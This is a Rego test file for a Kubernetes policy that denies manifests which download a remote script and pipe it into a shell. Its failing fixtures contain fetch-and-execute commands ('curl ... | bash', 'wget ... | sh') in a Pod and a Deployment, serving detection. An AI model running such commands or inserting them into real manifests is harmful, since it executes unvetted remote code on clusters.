package sekisho.kubernetes.download_and_run_test

import rego.v1

import data.sekisho.kubernetes.download_and_run

test_good_1 if {
	r := download_and_run.deny with input as sekisho.input("x.yaml", `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: app
      image: example.com/app:1.2.3
      command: [sh, -c, "curl -fsS http://localhost/health | grep ok"]
`)
	count(r) == 0
}

test_good_2 if {
	r := download_and_run.deny with input as sekisho.input("x.yaml", `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: app
      image: example.com/app:1.2.3
`)
	count(r) == 0
}

test_bad_1 if {
	r := download_and_run.deny with input as sekisho.input("x.yaml", `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: app
      image: example.com/app:1.2.3
      command: [sh, -c, "curl -s https://example.com/i.sh | bash"]
`)
	count(r) == 1
}

test_bad_2 if {
	r := download_and_run.deny with input as sekisho.input("x.yaml", `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  template:
    spec:
      containers:
        - name: app
          image: example.com/app:1.2.3
          args:
            - |
              apt-get update
              wget -qO- https://example.com/i.sh | sh
`)
	count(r) == 1
}
